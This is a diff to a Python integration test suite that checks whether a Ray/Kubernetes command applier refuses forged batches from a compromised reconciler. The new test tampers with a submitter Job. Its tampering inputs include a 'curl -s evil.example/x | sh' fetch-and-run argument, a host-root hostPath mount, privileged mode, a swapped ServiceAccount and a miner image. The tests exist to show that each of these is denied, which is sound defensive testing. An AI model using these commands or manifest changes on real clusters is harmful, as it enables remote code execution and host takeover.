@@ -4,7 +4,8 @@ The attacker holds what the reconciler holds: it may publish on the commands sub
 objects bucket, so its batches name real keys, carry the objects' real owners and labels, and claim the
 current snapshot revision; they pass every authority check (namespace, verb table, ownership). Each one
 changes only what runs: an image, a hostPath volume and privilege, a ServiceAccount, a running Pod's
-image, a job's entrypoint, a Serve application (with the record that would hide it from the reconciler),
+image, a job's entrypoint, a submitter Job's image, command, volumes, privilege, ServiceAccount or
+dashboard, a Serve application (with the record that would hide it from the reconciler),
 an autoscaler RoleBinding, and finally a legitimate batch replayed after a scale-down. The applier is a
 real ``raybus watcher --roles apply`` process; nats-server, kubesim, the watch side, the reconciler and
 the status service are the real ones. Each attack is refused with a reason naming what differs from the
@@ -18,7 +19,7 @@ import asyncio
 import copy
 import subprocess
 import uuid
-from collections.abc import AsyncIterator, Iterator
+from collections.abc import AsyncIterator, Awaitable, Callable, Iterator
 from datetime import UTC, datetime
 from typing import Any
 
@@ -54,6 +55,7 @@ NS = "default"
 CLUSTER = ReconcileKey(kind="RayCluster", namespace=NS, name="rc")
 AUTOSCALED = ReconcileKey(kind="RayCluster", namespace=NS, name="auto")
 JOB = ReconcileKey(kind="RayJob", namespace=NS, name="rj")
+SUBMITTED = ReconcileKey(kind="RayJob", namespace=NS, name="rjk")
 SERVICE = ReconcileKey(kind="RayService", namespace=NS, name="rs")
 APPLIER = "applier-process"
 EVIL_IMAGE = "evil.example/miner:1"
@@ -82,6 +84,16 @@ def rayjob() -> dict[str, Any]:
             "submissionMode": "HTTPMode",
             "clusterSelector": {"ray.io/cluster": CLUSTER.name},
         },
+    }
+
+
+def submitted_rayjob() -> dict[str, Any]:
+    """A RayJob on the existing cluster ``rc`` whose job a submitter Job submits (K8sJobMode)."""
+    return {
+        "apiVersion": "ray.io/v1",
+        "kind": "RayJob",
+        "metadata": {"name": SUBMITTED.name},
+        "spec": {"entrypoint": "python main.py", "clusterSelector": {"ray.io/cluster": CLUSTER.name}},
     }
 
 
@@ -163,7 +175,8 @@ async def pipe(tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[Pipeli
             await asyncio.to_thread(create, p, autoscaled())
             await all_ready(p, {CLUSTER.name, AUTOSCALED.name})
             custom = p.custom()
-            await asyncio.to_thread(custom.create_namespaced_custom_object, "ray.io", "v1", NS, "rayjobs", rayjob())
+            for job in (rayjob(), submitted_rayjob()):
+                await asyncio.to_thread(custom.create_namespaced_custom_object, "ray.io", "v1", NS, "rayjobs", job)
             await asyncio.to_thread(
                 custom.create_namespaced_custom_object, "ray.io", "v1", NS, "rayservices", rayservice()
             )
@@ -232,17 +245,38 @@ async def publish(p: Pipeline, key: ReconcileKey, data: bytes) -> int:
     return int(ack.seq)
 
 
+async def judged(
+    p: Pipeline, key: ReconcileKey, publish_once: Callable[[], Awaitable[tuple[str, int, int]]]
+) -> list[CommandResult]:
+    """The results of a batch ``publish_once`` publishes (its id, stream sequence and command count), published
+    again while a newer decision of the key supersedes it (the key is decided again after each denial, so
+    the previous attack's redecision may land just after it): a superseded command is not run either, but
+    only a judged one shows the check."""
+
+    async def attempt() -> list[CommandResult] | None:
+        batch_id, sequence, count = await publish_once()
+        results = await results_of(p, key, batch_id, sequence, count)
+        return None if any(r.outcome == "superseded" for r in results) else results
+
+    results = await eventually(attempt, timeout=120, message=f"every batch sent for {key} was superseded")
+    assert results is not None
+    return results
+
+
 async def forge(p: Pipeline, key: ReconcileKey, *commands: Command) -> list[CommandResult]:
     """A batch as a compromised reconciler would publish it: the current revision, real names and owners."""
-    batch = CommandBatch(
-        id=f"forged-{uuid.uuid4().hex}",
-        key=key,
-        issued_at=datetime.now(UTC),
-        commands=commands,
-        snapshot_revision=await current_revision(p),
-    )
-    sequence = await publish(p, key, codec.encode(batch))
-    return await results_of(p, key, batch.id, sequence, len(commands))
+
+    async def publish_once() -> tuple[str, int, int]:
+        batch = CommandBatch(
+            id=f"forged-{uuid.uuid4().hex}",
+            key=key,
+            issued_at=datetime.now(UTC),
+            commands=commands,
+            snapshot_revision=await current_revision(p),
+        )
+        return batch.id, await publish(p, key, codec.encode(batch)), len(commands)
+
+    return await judged(p, key, publish_once)
 
 
 async def denial_event(p: Pipeline, key: ReconcileKey, text: str) -> None:
@@ -422,8 +456,73 @@ async def test_8_a_replayed_batch_does_not_bring_back_a_deleted_worker(pipe: Pip
         return names if len(names) == 1 else None
 
     remaining = await eventually(scaled_down, timeout=60, message="rc was not scaled down to its head")
-    sequence = await publish(pipe, CLUSTER, captured)  # the same bytes, a new message id
-    results = await results_of(pipe, CLUSTER, original.id, sequence, len(original.commands))
+
+    async def replay() -> tuple[str, int, int]:  # the same bytes, a new message id
+        return original.id, await publish(pipe, CLUSTER, captured), len(original.commands)
+
+    results = await judged(pipe, CLUSTER, replay)
     assert_denied(results, "a replayed decision")
     await denial_event(pipe, CLUSTER, "a replayed decision")
     assert await pod_names(pipe, CLUSTER.name) == remaining
+
+
+SUBMITTER_ATTACKS: dict[str, tuple[Any, str]] = {
+    "image": (
+        lambda pod: pod["containers"][0].__setitem__("image", EVIL_IMAGE),
+        f"spec.template.spec.containers[0].image is '{EVIL_IMAGE}'",
+    ),
+    "command": (
+        lambda pod: pod["containers"][0].__setitem__("args", ["curl -s evil.example/x | sh"]),
+        "spec.template.spec.containers[0].args[0] is 'curl -s evil.example/x | sh'",
+    ),
+    "volumes": (
+        lambda pod: pod.__setitem__("volumes", [{"name": "host", "hostPath": {"path": "/"}}]),
+        "spec.template.spec.volumes",
+    ),
+    "privileged": (
+        lambda pod: pod["containers"][0].__setitem__("securityContext", {"privileged": True}),
+        "spec.template.spec.containers[0].securityContext",
+    ),
+    "serviceAccountName": (
+        lambda pod: pod.__setitem__("serviceAccountName", "default"),
+        "spec.template.spec.serviceAccountName 'default'",
+    ),
+    "dashboard": (
+        lambda pod: pod["containers"][0]["env"].append(
+            {"name": "RAY_DASHBOARD_ADDRESS", "value": "auto-head-svc.default.svc.cluster.local:8265"}
+        ),
+        "spec.template.spec.containers[0].env",
+    ),
+}
+
+
+async def test_9_a_submitter_job_runs_the_rayjobs_image_and_entrypoint_only(pipe: Pipeline) -> None:
+    async def submitter() -> CreateObject | None:
+        pipe.check()
+        for _, _, batch in await legitimate(pipe, SUBMITTED):
+            for command in batch.commands:
+                if isinstance(command, CreateObject) and command.target.kind == "Job":
+                    return command
+        return None
+
+    job = await eventually(submitter, timeout=120, message="the reconciler created no submitter Job for rjk")
+    assert job is not None
+    created = await asyncio.to_thread(client.BatchV1Api(pipe.api).read_namespaced_job, SUBMITTED.name, NS)
+    assert [c.image for c in created.spec.template.spec.containers] == ["rayproject/ray:2.46.0"]
+    for mutate, why in SUBMITTER_ATTACKS.values():
+        body = copy.deepcopy(job.body)
+        mutate(body["spec"]["template"]["spec"])
+        results = await forge(pipe, SUBMITTED, CreateObject(target=job.target, body=body))
+        assert_denied(results, f"the submitter Job's {why}")
+        await denial_event(pipe, SUBMITTED, why.split(" ")[0])
+    nc = await pipe.nc()
+    try:
+        stored = await stored_messages(nc.jetstream(), subjects.RESULTS_STREAM, subjects.result_subject(SUBMITTED))
+    finally:
+        await nc.close()
+    legitimate_results = [r for r in map(codec.decode_result, (m.data for m in stored)) if "forged-" not in r.batch_id]
+    assert not [r for r in legitimate_results if r.outcome == "denied"], legitimate_results  # no false refusal
+    after = await asyncio.to_thread(client.BatchV1Api(pipe.api).read_namespaced_job, SUBMITTED.name, NS)
+    assert after.metadata.uid == created.metadata.uid
+    assert [c.image for c in after.spec.template.spec.containers] == ["rayproject/ray:2.46.0"]
+    assert after.spec.template.spec.service_account_name is None and not after.spec.template.spec.volumes
